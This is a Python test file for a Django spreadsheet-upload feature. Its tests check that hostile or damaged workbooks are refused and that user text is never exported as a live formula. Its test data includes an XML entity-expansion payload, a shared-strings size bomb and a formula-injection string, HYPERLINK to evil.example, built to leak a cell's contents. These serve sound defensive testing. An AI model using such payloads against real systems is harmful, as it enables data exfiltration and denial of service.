"""Damaged and hostile workbooks: each refused with a clear message, quickly, never a server error;
and user text in the entry template is never a live formula, yet uploads back unchanged."""

import io
import time
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from targets import template_xlsx, workflow
from targets.models import Figure, Measure, Unit
from tests.test_template_xlsx import as_upload, download, fill, refused, reporter  # noqa: F401 (fixture)

SHEET_PART = "xl/worksheets/sheet1.xml"  # the "Nhập liệu" sheet of the template


def rewritten(wb, changes: dict) -> SimpleUploadedFile:
    """The workbook as an upload with some parts of its package replaced (a function gets the old bytes)."""
    source = io.BytesIO(as_upload(wb).read())
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as copy:
        for item in original.infolist():
            data = original.read(item.filename)
            change = changes.pop(item.filename, data)
            copy.writestr(item.filename, change(data) if callable(change) else change)
        for name, data in changes.items():
            copy.writestr(name, data)
    return SimpleUploadedFile("hostile.xlsx", buffer.getvalue())


def test_openpyxl_reads_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True


def test_an_entity_declaration_in_a_worksheet_is_refused(client, reporter):  # noqa: F811
    client.force_login(reporter)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>')

    def plant(data):
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return laughs + body.replace(b"<v>024</v>", b"<v>&b;</v>", 1)

    refused(client, rewritten(fill(download(client), {"3": 5}), {SHEET_PART: plant}), "Không đọc được bảng tính")


def test_a_truncated_worksheet_is_refused(client, reporter):  # noqa: F811
    client.force_login(reporter)
    upload = rewritten(fill(download(client), {"3": 5}), {SHEET_PART: lambda data: data[: len(data) * 2 // 3]})
    html = refused(client, upload, "Không đọc được bảng tính: tệp bị hỏng hoặc không được Excel lưu dưới dạng .xlsx. Hãy tải "
                   "lại biểu mẫu, điền rồi lưu bằng Excel.")
    assert "Error" not in html  # what a person can act on, not the name of a Python error


def test_a_number_cell_holding_letters_is_a_damaged_file_not_a_python_error(client, reporter):  # noqa: F811
    client.force_login(reporter)
    upload = rewritten(fill(download(client), {"3": 5}), {SHEET_PART: lambda data: data.replace(b"<v>5</v>", b"<v>abc</v>", 1)})
    html = refused(client, upload, "tệp bị hỏng hoặc không được Excel lưu dưới dạng .xlsx")
    assert "ValueError" not in html


def test_millions_of_tiny_shared_strings_are_refused_before_reading_them(client, reporter):  # noqa: F811
    client.force_login(reporter)
    many = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"<si><t>a</t></si>" * 2_800_000 + b"</sst>"
    upload = rewritten(download(client), {"xl/sharedStrings.xml": many})
    assert upload.size < 300_000
    started = time.monotonic()
    refused(client, upload, "quá nhiều chuỗi văn bản")
    assert time.monotonic() - started < 5


def test_reading_stops_at_the_time_limit(client, reporter, monkeypatch):  # noqa: F811
    monkeypatch.setattr(template_xlsx, "MAX_READ_SECONDS", 0)
    client.force_login(reporter)
    refused(client, as_upload(fill(download(client), {"3": 5})), "quá lớn hoặc quá phức tạp")


def test_an_external_link_is_refused_whatever_its_part_is_called(client, reporter):  # noqa: F811
    client.force_login(reporter)
    link = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"'
            b' Target="renamed/book.xml"/></Relationships>')
    upload = rewritten(download(client), {
        "xl/_rels/workbook.xml.rels": lambda data: data.replace(b"</Relationships>", link),
        "xl/renamed/book.xml": b"<externalLink/>",
    })
    refused(client, upload, "liên kết tới tệp khác")


@pytest.mark.template_context
def test_a_web_address_in_a_cell_is_not_an_external_link(client, reporter):  # noqa: F811
    client.force_login(reporter)
    wb = fill(download(client), {"3": 5})
    wb["Nhập liệu"]["L2"].hyperlink = "https://thongke.gov.vn/"
    response = client.post(reverse("upload"), {"file": as_upload(wb)})
    assert response.context["result"].ok


def test_text_over_a_fields_limit_is_listed_with_its_row_and_column(client, reporter):  # noqa: F811
    client.force_login(reporter)
    wb = fill(download(client), {"3": 5})
    ws = wb["Nhập liệu"]
    header = [c.value for c in ws[1]]
    ws.cell(2, header.index("Nguồn") + 1).value = "S" * 301
    refused(client, as_upload(wb), "dòng 2, cột «Nguồn»", "300")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'


@pytest.mark.template_context
def test_text_that_looks_like_a_formula_is_written_as_text_and_uploads_back_unchanged(client, reporter, open_year):  # noqa: F811
    unit = Unit.objects.get(code="024")
    workflow.save_figures(user=reporter, campaign=open_year, unit=unit, quarter=1, entries=[workflow.Entry(
        measure=Measure.objects.get(code="3"), value=5, note=FORMULA, source="+84 hotline", narrative="@mention")])
    client.force_login(reporter)
    response = client.get(reverse("template-download"), {"year": 2024, "quarter": 1})
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        assert b"<f>" not in package.read(SHEET_PART)  # no formula anywhere in the sheet
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb["Nhập liệu"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "3")
    note = row[header.index("Ghi chú")]
    assert (note.value, note.data_type, note.quotePrefix) == (FORMULA, "s", True)
    uploaded = client.post(reverse("upload"), {"file": SimpleUploadedFile("mau.xlsx", response.content)})
    result = uploaded.context["result"]
    assert result.ok, [str(p) for p in result.problems]
    # Read back as the words they are, equal to what is stored: nothing to save.
    assert not result.rows and "024" in result.units
    assert "Không có gì để lưu" in uploaded.content.decode()
    assert Figure.objects.get().note == FORMULA
    # Changed in the workbook, the words are saved as typed, never as a formula's result.
    row[header.index("Giá trị")].value = 6
    buffer = io.BytesIO()
    wb.save(buffer)
    uploaded = client.post(reverse("upload"), {"file": SimpleUploadedFile("mau.xlsx", buffer.getvalue())})
    entry = next(r["entry"] for r in uploaded.context["result"].rows if r["entry"].measure.code == "3")
    assert (entry.note, entry.source, entry.narrative) == (FORMULA, "+84 hotline", "@mention")
    client.post(reverse("upload"), {"token": uploaded.context["token"]})
    assert (Figure.objects.get().note, Figure.objects.get().value) == (FORMULA, 6)
